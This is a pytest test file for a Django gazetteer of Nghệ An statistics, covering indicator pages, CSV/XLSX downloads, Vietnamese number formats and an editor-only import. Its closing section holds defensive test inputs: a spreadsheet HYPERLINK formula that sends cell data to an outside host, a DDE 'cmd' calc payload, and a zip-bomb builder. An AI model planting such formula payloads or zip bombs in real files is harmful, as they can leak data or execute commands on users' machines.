"""Figures: indicator pages, downloads, number formats and the yearly import.

The figures are built through the actions, as an editor builds them (``build_figures``):

- indicators "Dân số" (dan-so), "Diện tích" (dien-tich), "Mật độ dân số" (mat-do-dan-so);
- an older edition with Nghi Lộc's population 2019 at 200.000, then the latest edition with it
  revised to 225.000,5, Nghi Lộc 2020, Vinh 2019 (sample data), Nghệ An 2019 and 2020, the area of
  Vinh and of Nghệ An, and the population of the commune Nghi Lộc (since 2025) in 2025.

Who sees what: every page and download here is public (the anonymous citizen reads them); only
gazetteer editors (``editor``) and the province office (``province_office``) may import; the
officers of Vinh and Nghi Lộc and the Board member get 404 there.
"""

from __future__ import annotations

import csv
import datetime
import io
from dataclasses import dataclass
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import Max
from django.shortcuts import resolve_url
from django.template.loader import render_to_string
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tinhuy.documents.numbers import format_number
from tinhuy.gazetteer.actions import (
    ObservationSpec,
    do_load_places,
    do_publish_edition,
    do_save_indicator,
    do_save_observations,
)
from tinhuy.gazetteer.imports.figures import (
    EXAMPLE_NOTE,
    NotANumber,
    import_observations,
    parse_number,
)
from tinhuy.gazetteer.models import Edition, Indicator, Observation, Place, PlaceKind

# These tests build their own figures and entries: start from a gazetteer without the demo.
pytestmark = pytest.mark.usefixtures("empty_gazetteer")

HCM = ZoneInfo("Asia/Ho_Chi_Minh")
SAMPLE = "số liệu minh họa"


@dataclass
class Figures:
    old: Edition  # the edition before the latest
    latest: Edition
    population: Indicator
    area: Indicator
    density: Indicator  # never given a figure: not in any edition
    province: Place
    vinh: Place
    vinh_hung: Place  # a ward whose name starts like Vinh's
    nghiloc: Place  # the district (until 30/06/2025)
    nghiloc_commune: Place  # the commune (since 01/07/2025)


def _indicator(code: str, name: str, unit: str, definition: str = "") -> Indicator:
    if not Indicator.objects.filter(code=code).exists():
        do_save_indicator(code, name, unit, definition, acting_user=None)
    return Indicator.objects.get(code=code)


def _publish(year: int, user: object) -> Edition:
    return do_publish_edition(
        year,
        title=f"Địa chí Nghệ An, ấn bản {year}",
        acting_user=user,
        published_at=datetime.datetime(year, 12, 30, 9, 0, tzinfo=HCM),
    )


def build_figures(editor: object) -> Figures:
    """Two editions of figures, built as an editor builds them (see the module docstring)."""
    do_load_places(acting_user=None)
    places = {p.code: p for p in Place.objects.filter(code__in=["40", "412", "429"])}
    vinh_hung = Place.objects.get(name="Vinh Hưng")
    nghiloc_commune = Place.objects.get(name="Nghi Lộc", kind=PlaceKind.COMMUNE)
    population = _indicator(
        "dan-so", "Dân số", "người", "Dân số trung bình trong năm, theo niên giám thống kê."
    )
    area = _indicator("dien-tich", "Diện tích", "km²")
    density = _indicator("mat-do-dan-so", "Mật độ dân số", "người/km²")
    # Editions are yearly and only move forward: start after whatever the database holds.
    first = (Edition.objects.aggregate(y=Max("year"))["y"] or 2020) + 1
    nghiloc, vinh, province = places["429"], places["412"], places["40"]

    do_save_observations(
        [ObservationSpec(population, nghiloc, 2019, Decimal("200000"), source="Niên giám 2019")],
        acting_user=editor,
    )
    old = _publish(first, editor)
    yearbook = "Niên giám thống kê tỉnh Nghệ An 2020"
    do_save_observations(
        [
            ObservationSpec(population, nghiloc, 2019, Decimal("225000.5"), source=yearbook),
            ObservationSpec(population, nghiloc, 2020, Decimal("226100"), source=yearbook),
            ObservationSpec(population, vinh, 2019, Decimal("339114"), is_sample=True),
            ObservationSpec(population, province, 2019, Decimal("3327791"), source=yearbook),
            ObservationSpec(population, province, 2020, Decimal("3365200"), source=yearbook),
            ObservationSpec(population, nghiloc_commune, 2025, Decimal("61000"), is_sample=True),
            ObservationSpec(area, vinh, 2019, Decimal("104.96"), source=yearbook),
            ObservationSpec(area, province, 2019, Decimal("16486.5"), source=yearbook),
        ],
        acting_user=editor,
    )
    latest = _publish(first + 1, editor)
    return Figures(
        old,
        latest,
        population,
        area,
        density,
        province,
        vinh,
        vinh_hung,
        nghiloc,
        nghiloc_commune,
    )


@pytest.fixture
def figures_data(personas) -> Figures:  # type: ignore[no-untyped-def]
    return build_figures(personas.editor)


def _url(name: str, *args: object) -> str:
    return reverse(name, args=args)


# Pages ------------------------------------------------------------------------------------------


def test_indicator_list_shows_the_editions_indicators_to_anonymous_citizens(figures_data, client):
    """Anyone reads the list; an indicator without figures in the edition is not on it."""
    response = client.get(_url("gazetteer_indicators", figures_data.latest.year))
    assert response.status_code == 200
    text = response.content.decode()
    assert "Dân số" in text and "Diện tích" in text
    assert "Mật độ dân số" not in text


def test_indicator_page_shows_definition_unit_table_and_chart(figures_data, client):
    """Definition, unit, the place × year table with Vietnamese numbers, the chart's data."""
    response = client.get(_url("gazetteer_indicator", figures_data.latest.year, "dan-so"))
    assert response.status_code == 200
    text = response.content.decode()
    assert "Dân số trung bình trong năm" in text
    assert "Đơn vị tính: người" in text
    assert "225.000,5" in text and "3.365.200" in text
    assert "Huyện Nghi Lộc" in text and "Tỉnh Nghệ An" in text
    chart = response.context["chart"]
    assert chart["years"] == [2019, 2020, 2025]
    nghiloc = next(s for s in chart["series"] if s["code"] == "429")
    assert nghiloc["values"] == [225000.5, 226100.0, None]
    assert 'id="gz-indicator-data"' in text
    assert "vendor/chart.umd.min.js" in text and "gazetteer/figures.js" in text
    assert text.count("<canvas") == len(chart["series"])


def test_indicator_page_badges_every_sample_figure(figures_data, client):
    """Vinh 2019 and the commune's 2025 figure are sample data: each cell says so."""
    response = client.get(_url("gazetteer_indicator", figures_data.latest.year, "dan-so"))
    table = response.context["table"]
    samples = sum(1 for s in table.series for c in s.cells if c and c.is_sample)
    assert samples == 2
    # One badge per sample cell, one in the explanation above the table.
    assert response.content.decode().count(f">{SAMPLE}<") == samples + 1


def test_a_page_without_sample_figures_shows_no_badge(figures_data, client):
    response = client.get(_url("gazetteer_indicator", figures_data.latest.year, "dien-tich"))
    assert response.status_code == 200
    assert SAMPLE not in response.content.decode()


def test_the_older_edition_keeps_its_figures_at_its_permanent_url(figures_data, client):
    """A citation of the older edition still shows the figure it cited, and says it is old."""
    old = client.get(_url("gazetteer_indicator", figures_data.old.year, "dan-so")).content.decode()
    assert "200.000" in old and "225.000,5" not in old
    assert "không phải ấn bản mới nhất" in old
    new = client.get(_url("gazetteer_indicator", figures_data.latest.year, "dan-so"))
    assert "225.000,5" in new.content.decode()


def test_latest_urls_redirect_to_the_latest_edition(figures_data, client):
    year = figures_data.latest.year
    response = client.get(reverse("gazetteer_indicators_latest"))
    assert response.status_code == 302
    assert response["Location"] == _url("gazetteer_indicators", year)
    response = client.get(reverse("gazetteer_indicator_latest", args=["dan-so"]))
    assert response["Location"] == _url("gazetteer_indicator", year, "dan-so")


@pytest.mark.parametrize(
    "name,args",
    [
        ("gazetteer_indicator", ("{latest}", "khong-co")),
        ("gazetteer_indicator", ("{latest}", "mat-do-dan-so")),  # no figures in the edition
        ("gazetteer_indicator", (1999, "dan-so")),
        ("gazetteer_indicator", (99999, "dan-so")),
        ("gazetteer_indicators", (1999,)),
        ("gazetteer_indicator_csv", ("{latest}", "khong-co")),
        ("gazetteer_indicator_xlsx", (1999, "dan-so")),
        ("gazetteer_place_csv", ("{latest}", "99999")),
        ("gazetteer_place_xlsx", ("{latest}", "khong-co")),
        ("gazetteer_indicator_latest", ("khong-co",)),
    ],
)
def test_unknown_things_are_404(figures_data, client, name, args):
    """Unknown indicator, edition (even one too large for the column) or place: 404."""
    args = tuple(figures_data.latest.year if a == "{latest}" else a for a in args)
    assert client.get(reverse(name, args=args)).status_code == 404


def test_before_any_edition_the_latest_indicator_list_is_404(db, client):
    if Edition.objects.exists():
        pytest.skip("the database already holds an edition")
    assert client.get(reverse("gazetteer_indicators_latest")).status_code == 404


def test_pages_run_a_fixed_number_of_queries(figures_data, client, django_assert_max_num_queries):
    """However many places and years, each page and download is a handful of queries."""
    year = figures_data.latest.year
    for url in [
        _url("gazetteer_indicators", year),
        _url("gazetteer_indicator", year, "dan-so"),
        _url("gazetteer_indicator_csv", year, "dan-so"),
        _url("gazetteer_indicator_xlsx", year, "dan-so"),
        _url("gazetteer_place_csv", year, "429"),
        _url("gazetteer_place_xlsx", year, "429"),
    ]:
        with django_assert_max_num_queries(6):
            assert client.get(url).status_code == 200, url


# Downloads --------------------------------------------------------------------------------------


def _csv_rows(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # so that Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _xlsx_rows(response) -> list[dict[str, object]]:  # type: ignore[no-untyped-def]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_indicator_csv_parses_and_carries_the_sample_flag(figures_data, client):
    response = client.get(_url("gazetteer_indicator_csv", figures_data.latest.year, "dan-so"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv_rows(response)
    assert len(rows) == 6
    by_key = {(r["place"], r["year"]): r for r in rows}
    nghiloc = by_key[("429", "2019")]
    assert nghiloc["value"] == "225000.5"
    assert nghiloc["unit"] == "người" and nghiloc["place_name"] == "Huyện Nghi Lộc"
    assert nghiloc["source"] == "Niên giám thống kê tỉnh Nghệ An 2020"
    assert nghiloc["is_sample"] == ""
    assert by_key[("412", "2019")]["is_sample"] == SAMPLE


def test_indicator_xlsx_parses_with_numbers_and_the_sample_flag(figures_data, client):
    response = client.get(_url("gazetteer_indicator_xlsx", figures_data.latest.year, "dan-so"))
    assert response.status_code == 200
    rows = _xlsx_rows(response)
    by_key = {(r["place"], r["year"]): r for r in rows}
    assert by_key[("429", 2019)]["value"] == pytest.approx(225000.5)
    assert by_key[("412", 2019)]["is_sample"] == SAMPLE
    assert by_key[("429", 2019)]["is_sample"] in ("", None)


def test_place_downloads_list_the_places_figures(figures_data, client):
    year = figures_data.latest.year
    rows = _csv_rows(client.get(_url("gazetteer_place_csv", year, "412")))
    assert {(r["indicator_code"], r["year"], r["is_sample"]) for r in rows} == {
        ("dan-so", "2019", SAMPLE),
        ("dien-tich", "2019", ""),
    }
    rows = _xlsx_rows(client.get(_url("gazetteer_place_xlsx", year, "412")))
    assert {r["indicator_code"] for r in rows} == {"dan-so", "dien-tich"}


def test_a_downloaded_csv_imports_back_unchanged(figures_data, client, personas):
    """The download's columns are the import's (plus some it reads past): nothing changes."""
    response = client.get(_url("gazetteer_indicator_csv", figures_data.latest.year, "dan-so"))
    result = import_observations(response.content, "dan-so.csv", acting_user=personas.editor)
    assert result.errors == []
    assert (result.added, result.revised) == (0, 0)


# Numbers ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value,text",
    [
        ("1234.5", "1.234,5"),
        ("1234567", "1.234.567"),
        ("225000.5000", "225.000,5"),
        ("0.25", "0,25"),
        ("-1234.50", "-1.234,5"),
        ("1E+3", "1.000"),
        ("999", "999"),
    ],
)
def test_values_are_written_the_vietnamese_way(value, text):
    assert format_number(Decimal(value)) == text


@pytest.mark.parametrize(
    "text,value",
    [
        ("1234.5", "1234.5"),  # a dot and no grouping: the decimal point
        ("1.234,5", "1234.5"),  # Vietnamese: dots group thousands, a comma before decimals
        ("1.234.567", "1234567"),  # several dots can only be thousands
        ("1234,5", "1234.5"),  # one comma: the decimal separator
        ("1,234", "1.234"),  # one comma, even before three digits (the rule, documented)
        ("12.345,67", "12345.67"),
        ("0.125", "0.125"),  # "0.125" cannot be thousands
        ("1234.567", "1234.567"),  # four digits before the dot cannot be a group
        ("-1.234,5", "-1234.5"),
        ("1 234,5", "1234.5"),  # spaces between groups are ignored
        ("42", "42"),
    ],
)
def test_parse_number_accepts_vietnamese_and_plain_forms(text, value):
    assert parse_number(text) == Decimal(value)


@pytest.mark.parametrize(
    "text",
    ["1.234", "100.000", "1,234,567", "1,234.5", "abc", "", "12a", "1.23456", "1" * 17, "NaN"],
)
def test_parse_number_refuses_ambiguous_and_non_numbers(text):
    with pytest.raises(NotANumber):
        parse_number(text)


# Import -----------------------------------------------------------------------------------------

HEADER = "indicator_code,place,year,value,source,note,is_sample"


def _csv_file(*lines: str, name: str = "so-lieu.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, "\n".join([HEADER, *lines]).encode("utf-8"))


def _post(client, upload, *, follow=False, **fields):  # type: ignore[no-untyped-def]
    return client.post(
        reverse("gazetteer_figures_import"), {"file": upload, **fields}, follow=follow
    )


def test_import_page_is_404_for_everyone_but_editors(figures_data, client_for, personas):
    """Officers of Vinh and Nghi Lộc and the Board member get 404; anonymous users log in."""
    url = reverse("gazetteer_figures_import")
    for user in (personas.vinh_officer, personas.nghiloc_officer, personas.board_member):
        assert client_for(user).get(url).status_code == 404
        assert client_for(user).get(reverse("gazetteer_figures_template")).status_code == 404
    response = client_for(personas.citizen).get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(resolve_url(settings.LOGIN_URL))
    for user in (personas.editor, personas.province_office):
        assert client_for(user).get(url).status_code == 200


def test_import_adds_and_revises_and_shows_the_counts(figures_data, client_for, personas):
    """Two new figures and one revised; the page says so; the public sees them next edition."""
    client = client_for(personas.editor)
    upload = _csv_file(
        'dan-so,Huyện Nghi Lộc,2021,"1.227.300",Niên giám 2021,,',
        'dan-so,412,2020,"341.000,5",,ước tính,x',
        "dan-so,Huyện Nghi Lộc,2020,226200,Niên giám 2021,sửa,",
    )
    response = _post(client, upload, follow=True)
    text = response.content.decode()
    assert "2 số liệu mới, 1 số liệu được sửa" in text
    nghiloc = figures_data.nghiloc
    assert Observation.objects.get(place=nghiloc, year=2021).value == Decimal("1227300")
    assert Observation.objects.get(place=nghiloc, year=2020).value == Decimal("226200")
    vinh = Observation.objects.get(place=figures_data.vinh, year=2020)
    assert (vinh.value, vinh.is_sample, vinh.note) == (Decimal("341000.5"), True, "ước tính")


def test_import_without_a_source_marks_the_figure_as_sample(figures_data, personas):
    content = f"{HEADER}\ndien-tich,Vinh,2020,105,,,\n".encode()
    result = import_observations(content, "a.csv", acting_user=personas.editor)
    assert result.errors == [] and result.added == 1
    assert Observation.objects.get(indicator__code="dien-tich", year=2020).is_sample


def test_import_reads_xlsx_with_number_cells(figures_data, client_for, personas):
    """Number cells stay numbers: 1.234 typed as a number is not the ambiguous text "1.234"."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Số liệu"
    sheet.append(["Mã chỉ tiêu", "Địa danh", "Năm", "Giá trị", "Nguồn"])  # Vietnamese headers
    sheet.append(["dien-tich", "Tỉnh Nghệ An", 2020, 16493.7, "Niên giám 2020"])
    sheet.append(["dien-tich", "Vinh", 2021, 1.234, "Đo đạc"])
    out = io.BytesIO()
    workbook.save(out)
    response = _post(
        client_for(personas.editor),
        SimpleUploadedFile("so-lieu.xlsx", out.getvalue()),
        follow=True,
    )
    assert "2 số liệu mới, 0 số liệu được sửa" in response.content.decode()
    assert Observation.objects.get(
        indicator__code="dien-tich", place=figures_data.vinh, year=2021
    ).value == Decimal("1.234")


def test_import_dry_run_counts_and_writes_nothing(figures_data, client_for, personas):
    before = Observation.objects.count()
    response = _post(
        client_for(personas.editor),
        _csv_file("dan-so,Huyện Nghi Lộc,2022,1000,Niên giám,,"),
        dry_run="on",
    )
    assert response.status_code == 200
    assert "Tệp hợp lệ: 1 số liệu mới" in response.content.decode()
    assert Observation.objects.count() == before


@pytest.mark.parametrize(
    "line,row,column,words",
    [
        ("khong-co,Vinh,2019,1,Nguồn,,", 2, "indicator_code", "không có chỉ tiêu mã “khong-co”"),
        ("dan-so,Hà Nội,2019,1,Nguồn,,", 2, "place", "không có địa danh “Hà Nội”"),
        ("dan-so,Nghi Lộc,2019,1,Nguồn,,", 2, "place", "nhiều địa danh"),  # district, commune
        ("dan-so,Vinh,2019,mười,Nguồn,,", 2, "value", "không phải là số"),
        ("dan-so,Vinh,2019,1.234,Nguồn,,", 2, "value", "không rõ nghĩa"),
        ('dan-so,Vinh,2019,"1,234.5",Nguồn,,', 2, "value", "không rõ nghĩa"),
        ("dan-so,Vinh,20199,1,Nguồn,,", 2, "year", "từ 1800 đến 2100"),
        ("dan-so,Vinh,năm 2019,1,Nguồn,,", 2, "year", "không phải là một năm"),
        ("dan-so,Vinh,2019,1,Nguồn,,có lẽ", 2, "is_sample", "không hiểu được"),
        ("dan-so,Vinh,2019,1," + "n" * 501 + ",,", 2, "source", "dài quá 500 ký tự"),
        (",Vinh,2019,1,Nguồn,,", 2, "indicator_code", "chưa có mã chỉ tiêu"),
    ],
)
def test_import_refuses_bad_rows_naming_row_and_column_and_writes_nothing(
    figures_data, client_for, personas, line, row, column, words
):
    """A good row next to a bad one: nothing is written, the error names where and why."""
    before = Observation.objects.count()
    response = _post(
        client_for(personas.editor),
        _csv_file(line, "dan-so,Huyện Nghi Lộc,2023,1000,Niên giám,,"),
    )
    assert response.status_code == 400  # as every import page answers a file it refuses
    errors = response.context["errors"]
    assert len(errors) == 1
    assert (errors[0].row, errors[0].column) == (row, column)
    assert errors[0].message.startswith(f"Dòng {row}, cột “{column}”: ")
    assert words in errors[0].message
    assert "chưa có số liệu nào được ghi" in response.content.decode()
    assert Observation.objects.count() == before


def test_import_refuses_a_duplicate_figure_in_the_file(figures_data, personas):
    content = "\n".join(
        [HEADER, "dan-so,Vinh,2021,1,N,,", "dan-so,Thành phố Vinh,2021,2,N,,"]
    ).encode()
    before = Observation.objects.count()
    result = import_observations(content, "a.csv", acting_user=personas.editor)
    assert [(e.row, e.column) for e in result.errors] == [(3, "year")]
    assert "trùng với dòng 2" in result.errors[0].message
    assert Observation.objects.count() == before


def test_import_lists_every_error_of_the_file(figures_data, personas):
    content = "\n".join(
        [HEADER, "x,Vinh,2019,1,N,,", "dan-so,Vinh,abc,??,N,,", "dan-so,Vinh,2019,5,N,,"]
    ).encode()
    result = import_observations(content, "a.csv", acting_user=personas.editor)
    assert [(e.row, e.column) for e in result.errors] == [
        (2, "indicator_code"),
        (3, "year"),
        (3, "value"),
    ]


def test_import_refuses_a_file_over_the_size_limit(figures_data, client_for, personas, settings):
    settings.TINHUY_IMPORT_MAX_BYTES = 100
    before = Observation.objects.count()
    response = _post(client_for(personas.editor), _csv_file(*["dan-so,Vinh,2019,1,N,,"] * 20))
    assert "Tệp quá lớn" in response.content.decode()
    result = import_observations(b"x" * 200, "a.csv", acting_user=personas.editor)
    assert "Tệp quá lớn" in result.errors[0].message
    assert Observation.objects.count() == before


def test_import_refuses_a_csv_that_is_not_utf8(figures_data, personas):
    content = f"{HEADER}\ndan-so,Đô Lương,2019,1,Niên giám,,\n".encode("cp1258")
    result = import_observations(content, "a.csv", acting_user=personas.editor)
    assert len(result.errors) == 1
    assert "UTF-8" in result.errors[0].message and "dòng 2" in result.errors[0].message


def test_import_names_missing_and_unknown_columns(figures_data, personas):
    content = b"indicator_code,place,value,colour\ndan-so,Vinh,1,red\n"
    result = import_observations(content, "a.csv", acting_user=personas.editor)
    messages = [e.message for e in result.errors]
    assert any("cột “colour”: tiêu đề này không được nhận ra" in m for m in messages)
    assert any("cột “year”: thiếu cột này" in m for m in messages)


def test_import_accepts_a_semicolon_csv_with_vietnamese_headers(figures_data, personas):
    """Excel in a Vietnamese locale writes ";" between cells and "1.234,5" in them."""
    content = "Mã chỉ tiêu;Địa danh;Năm;Giá trị;Nguồn\ndan-so;429;2022;1.234,5;NG\n".encode()
    result = import_observations(content, "a.csv", acting_user=personas.editor)
    assert result.errors == [] and result.added == 1
    assert Observation.objects.get(year=2022, place__code="429").value == Decimal("1234.5")


def test_import_template_downloads_for_editors(figures_data, client_for, personas):
    client = client_for(personas.editor)
    csv_file = client.get(reverse("gazetteer_figures_template") + "?format=csv")
    assert csv_file.status_code == 200
    # Uploaded as downloaded, its example rows are refused: they wrote a figure nobody published.
    before = Observation.objects.count()
    result = import_observations(csv_file.content, "mau.csv", acting_user=personas.editor)
    assert [e.row for e in result.errors] == [2, 3]
    assert all("dòng ví dụ của tệp mẫu" in e.message for e in result.errors)
    assert Observation.objects.count() == before
    # Otherwise the example rows are valid figures, marked sample data.
    filled = csv_file.content.decode("utf-8-sig").replace(EXAMPLE_NOTE, "ước tính")
    result = import_observations(filled.encode(), "mau.csv", acting_user=personas.editor)
    assert result.errors == []
    assert not Observation.objects.filter(note="ước tính", is_sample=False).exists()
    xlsx = client.get(reverse("gazetteer_figures_template") + "?format=xlsx")
    assert load_workbook(io.BytesIO(xlsx.content)).active.title == "Số liệu"
    assert client.get(reverse("gazetteer_figures_template") + "?format=pdf").status_code == 404


def test_answer_box_renders_nothing_without_an_answer():
    assert render_to_string("gazetteer/_answer_box.html", {"answer": None}).strip() == ""


# Hostile text and hostile files -------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.com/?d="&A1,"Bấm vào đây")'


def _hostile_figures(editor: object) -> Edition:
    """An indicator, a source and a note an editor typed as formulas, in a published edition."""
    do_save_indicator("cong-thuc", FORMULA, "@người", "-x", acting_user=editor)
    indicator = Indicator.objects.get(code="cong-thuc")
    vinh = Place.objects.get(code="412")
    do_save_observations(
        [
            ObservationSpec(
                indicator, vinh, 2019, Decimal("-5"), source="+cmd|' /C calc'!A0", note="\t=1+1"
            )
        ],
        acting_user=editor,
    )
    return _publish(Edition.objects.aggregate(y=Max("year"))["y"] + 1, editor)


def test_public_downloads_never_carry_a_live_formula(figures_data, client, personas):
    """The anonymous CSV and .xlsx of an indicator and of a place: a cell the editor typed as
    "=HYPERLINK(…)", "+…", "@…", tab… opens as text (a leading apostrophe), the negative
    value stays a number, and the sheet title is no formula either."""
    edition = _hostile_figures(personas.editor)
    for name, code in (("gazetteer_indicator", "cong-thuc"), ("gazetteer_place", "412")):
        csv_rows = _csv_rows(client.get(_url(f"{name}_csv", edition.year, code)))
        row = next(r for r in csv_rows if r["indicator_code"] == "cong-thuc")
        assert row["indicator_name"] == "'" + FORMULA
        assert row["unit"] == "'@người"
        assert row["source"].startswith("'+cmd") and row["note"] == "'\t=1+1"
        assert row["value"] == "-5"

        response = client.get(_url(f"{name}_xlsx", edition.year, code))
        workbook = load_workbook(io.BytesIO(response.content))
        assert not workbook.active.title.startswith(("=", "+", "-", "@"))
        xlsx_row = next(r for r in _xlsx_rows(response) if r["indicator_code"] == "cong-thuc")
        assert xlsx_row["indicator_name"] == "'" + FORMULA
        assert xlsx_row["value"] == -5
        for sheet_row in workbook.active.iter_rows():
            for cell in sheet_row:
                assert cell.data_type != "f", cell.coordinate  # no formula cell at all


def test_a_neutralised_download_imports_back_unchanged(figures_data, client, personas):
    """The apostrophe the download adds is read away by the import: nothing is revised."""
    edition = _hostile_figures(personas.editor)
    response = client.get(_url("gazetteer_indicator_csv", edition.year, "cong-thuc"))
    result = import_observations(response.content, "x.csv", acting_user=personas.editor)
    assert result.errors == []
    assert (result.added, result.revised) == (0, 0)


def _xlsx_bytes(rows: list[list[object]], *, title: str = "Số liệu") -> bytes:
    workbook = Workbook()
    workbook.active.title = title
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _zip_bomb(rows: int = 1_000_000) -> bytes:
    """A small .xlsx whose sheet unpacks to a million rows (compressed, a few hundred KB)."""
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes([HEADER.split(",")])))
    sheet = "".join(
        f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>x</t></is></c></row>'
        for i in range(2, rows + 2)
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</row>", b"</row>" + sheet.encode(), 1)
            bomb.writestr(info.filename, data)
    return out.getvalue()


def test_a_zip_bomb_is_refused_in_vietnamese_and_nothing_is_written(
    figures_data, client_for, personas
):
    """A million rows in a small .xlsx: 400 with the Vietnamese refusal, before parsing it."""
    before = Observation.objects.count()
    upload = SimpleUploadedFile("bom.xlsx", _zip_bomb())
    response = _post(client_for(personas.editor), upload)
    assert response.status_code == 400
    errors = response.context["errors"]
    assert len(errors) == 1 and errors[0].row is None
    assert "giải nén" in errors[0].message or "dòng dữ liệu" in errors[0].message
    assert Observation.objects.count() == before


def test_a_file_over_the_upload_limit_is_413(figures_data, client_for, personas, settings):
    settings.TINHUY_IMPORT_MAX_BYTES = 100
    response = _post(client_for(personas.editor), _csv_file(*["dan-so,Vinh,2019,1,N,,"] * 20))
    assert response.status_code == 413
    assert "Tệp quá lớn" in response.content.decode()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"PK\x03\x04 not really a zip", "không đọc được như một bảng tính .xlsx"),
        (b"\xd0\xcf\x11\xe0 old excel", ".xls"),
    ],
)
def test_a_file_that_is_no_table_is_400_in_vietnamese(
    figures_data, client_for, personas, content, words
):
    response = _post(client_for(personas.editor), SimpleUploadedFile("a.xlsx", content))
    assert response.status_code == 400
    assert words in response.context["errors"][0].message


def test_xlsx_numbers_stay_numbers_and_a_formula_cell_reads_as_its_value(figures_data, personas):
    """An .xlsx read by calamine: 1.234 typed as a number is not the ambiguous text "1.234";
    a formula Excel saved with its value imports that value."""
    content = _xlsx_bytes([HEADER.split(","), ["dan-so", "412", 2021, 1.234, "Nguồn", "", ""]])
    result = import_observations(content, "a.xlsx", acting_user=personas.editor)
    assert result.errors == [] and result.added == 1
    assert Observation.objects.get(year=2021, place__code="412").value == Decimal("1.234")


def test_the_import_page_lists_the_first_hundred_errors_and_counts_them_all(
    figures_data, client_for, personas
):
    lines = [f"khong-co,Vinh,{2000 + i % 100},1,N,," for i in range(150)]
    response = _post(client_for(personas.editor), _csv_file(*lines))
    assert response.status_code == 400
    errors = response.context["errors"]
    assert len(errors) == 101 and "50 lỗi khác" in errors[-1].message
    assert "Tệp có 150 lỗi" in response.content.decode()
